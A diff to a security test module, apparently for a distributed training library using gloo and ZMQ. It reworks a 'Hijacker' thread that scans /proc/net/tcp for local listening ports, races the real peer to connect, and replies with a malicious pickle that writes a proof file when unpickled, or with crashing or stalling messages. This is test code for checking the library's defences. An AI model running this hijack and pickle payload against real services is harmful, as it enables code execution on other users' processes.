@@ -25,7 +25,7 @@ from zmq.utils.monitor import parse_monitor_message
 
 from tests.security.lines import serve
 
-_LISTEN = "0A"
+_LISTEN = b" 0A "
 _TCP = Path("/proc/net/tcp")
 _GIVEN_AWAY = Path("/proc/sys/net/ipv4/ip_local_port_range")  # gloo's listeners have such ports
 _DONE = zmq.EVENT_HANDSHAKE_SUCCEEDED
@@ -39,12 +39,13 @@ _SETTLED = (
 _HANDSHAKE_MS = 2000  # who has not answered by then does not speak ZMQ
 _DELIMITER = b"<IDS|MSG>"
 _EVENTS_KEPT = 400
+_KNOCK_S = 0.1  # then it tries anew
 
 
 def ports_of(uid: int) -> set[int]:
     """The ports that a user listens at, as everybody may know."""
-    rows = [line.split() for line in _TCP.read_text().splitlines()[1:]]
-    return {int(row[1][-4:], 16) for row in rows if row[3] == _LISTEN and int(row[7]) == uid}
+    rows = (line.split() for line in _TCP.read_bytes().splitlines() if line[33:37] == _LISTEN)
+    return {int(row[1][-4:], 16) for row in rows if int(row[7]) == uid}
 
 
 # ---- ZMQ --------------------------------------------------------------------------------------
@@ -184,11 +185,12 @@ _PINNED, _SEND, _READY_TO_SEND, _READY_TO_RECEIVE = range(4)
 
 
 class Hijacker(threading.Thread):
-    """Connects to each new listener before the true peer does, and speaks gloo to who answers.
+    """Connects to each listener before the true peer does, and speaks gloo to who answers.
 
-    `how` is "obey" (takes what is sent, and hands over a pickle that leaves the file `proof` when
-    it is read), "crash" (begins with an operation that nobody expects), "spin" (with one whose
-    buffer never comes), or "lie" (says nothing, not even which connection it wants to be).
+    It knocks again and again where nobody opens, and where it was thrown out. `how` is "obey"
+    (takes what is sent, and hands over a pickle that leaves the file `proof` when it is read),
+    "crash" (begins with an operation that nobody expects), "spin" (with one whose buffer never
+    comes), or "lie" (says nothing, not even which connection it wants to be).
     """
 
     def __init__(self, uid: int, proof: str, last: int, how: str) -> None:
@@ -196,51 +198,85 @@ class Hijacker(threading.Thread):
         self.read: list[str] = []  # what the victim has sent
         self.taken = 0  # connections on which it has said something
         self.made = 0
+        self.looked = 0
         self.over = threading.Event()
         self._evil = pickle.dumps(_Evil(proof))
         self._uid, self._last, self._how = uid, last, how
         self._low = int(_GIVEN_AWAY.read_text().split()[0])
-        self._known = ports_of(uid)
-        self._open: dict[socket.socket, bytes] = {}
-        self._handed: dict[socket.socket, list[int]] = {}
+        self._poll = select.epoll()
+        self._sockets: dict[int, socket.socket] = {}
+        self._held: dict[tuple[int, int], tuple[int, float]] = {}  # port, number -> socket, since
+        self._knocking: dict[int, tuple[int, int]] = {}
+        self._open: dict[int, bytes] = {}
+        self._handed: dict[int, list[int]] = {}
         self.start()
 
     def run(self) -> None:
         """Until `over` is set."""
-        while not self.over.wait(0.0005):
-            for port in ports_of(self._uid) - self._known:
-                self._known.add(port)
+        while not self.over.is_set():
+            now = time.monotonic()
+            for port in ports_of(self._uid):
                 if port >= self._low:
-                    self._connect(port)
-            for ready in select.select(list(self._open), [], [], 0)[0]:
-                self._listen(ready)
-        for one in self._open:
+                    self._knock(port, now)
+            self.looked += 1
+            for fd, event in self._poll.poll(0):
+                if fd in self._knocking and event & select.EPOLLOUT:
+                    self._enter(fd, *self._knocking.pop(fd))
+                elif fd in self._open:
+                    self._listen(fd)
+        for one in self._sockets.values():
             one.close()
 
-    def _connect(self, port: int) -> None:
+    def _knock(self, port: int, now: float) -> None:
+        for number in range(self._last + 1):
+            fd, since = self._held.get((port, number), (-1, 0.0))
+            if fd in self._open or (fd in self._knocking and now < since + _KNOCK_S):
+                continue
+            self._drop(fd)
+            one = socket.socket(type=socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
+            with contextlib.suppress(BlockingIOError):
+                one.connect(("127.0.0.1", port))
+            fd = one.fileno()
+            self._sockets[fd], self._knocking[fd] = one, (port, number)
+            # each at a time of its own, so that one comes soon after a door is opened
+            self._held[port, number] = fd, now + _KNOCK_S * number / (self._last + 1)
+            self._poll.register(fd, select.EPOLLOUT)
+
+    def _enter(self, fd: int, port: int, number: int) -> None:
         first = {
             "crash": _PREAMBLE.pack(48 + 8, _SEND, 1 << 40, 0, 8, 0) + bytes(8),
             "spin": _PREAMBLE.pack(48 + 8, _PINNED, 1 << 20, 0, 8, 0) + bytes(8),
         }.get(self._how, b"")
-        for number in range(self._last + 1):
-            with contextlib.suppress(OSError):
-                one = socket.create_connection(("127.0.0.1", port), timeout=1)
-                if self._how != "lie":
-                    one.sendall(struct.pack("<q", number) + first)
-                self._open[one] = b""
-                self.made += 1
+        try:
+            if self._how != "lie":
+                self._sockets[fd].sendall(struct.pack("<q", number) + first)
+        except OSError:
+            self._drop(fd)
+            return
+        self.made += 1
+        self._open[fd] = b""
+        self._poll.modify(fd, select.EPOLLIN)
 
-    def _listen(self, one: socket.socket) -> None:
+    def _listen(self, fd: int) -> None:
+        one = self._sockets[fd]
         try:
             data = one.recv(1 << 16)
             if data:
-                self.taken += not self._open[one]
-                self._open[one] = self._answer(one, self._open[one] + data)
+                self.taken += not self._open[fd]
+                one.setblocking(True)  # for what is sent
+                self._open[fd] = self._answer(one, self._open[fd] + data)
+                one.setblocking(False)
                 return
         except OSError:
             pass
-        self._open.pop(one)
-        one.close()
+        self._drop(fd)
+
+    def _drop(self, fd: int) -> None:
+        self._open.pop(fd, None)
+        self._knocking.pop(fd, None)
+        self._handed.pop(fd, None)
+        if one := self._sockets.pop(fd, None):
+            one.close()
 
     def _answer(self, one: socket.socket, data: bytes) -> bytes:
         while len(data) >= _PREAMBLE.size:
@@ -263,7 +299,7 @@ class Hijacker(threading.Thread):
 
     def _content(self, one: socket.socket, length: int) -> bytes:
         """As `all_gather_object` has it: the size of the pickle, an answer, the pickle."""
-        handed = self._handed.setdefault(one, [0, 0])
+        handed = self._handed.setdefault(one.fileno(), [0, 0])
         handed[0] += 1
         if handed[0] <= 2:
             size = struct.pack("<q", len(self._evil)) if handed[0] == 1 else b""
@@ -302,7 +338,8 @@ def hijacker(uid: int, proof: str, last: int, how: str) -> None:
     one = Hijacker(uid, proof, last, how)
 
     def report() -> dict[str, Any]:
-        return {"made": one.made, "taken": one.taken, "read": one.read[-5:]}
+        numbers = {"made": one.made, "taken": one.taken, "looked": one.looked}
+        return {**numbers, "read": one.read[-5:]}
 
     serve({"report": report})
     one.over.set()
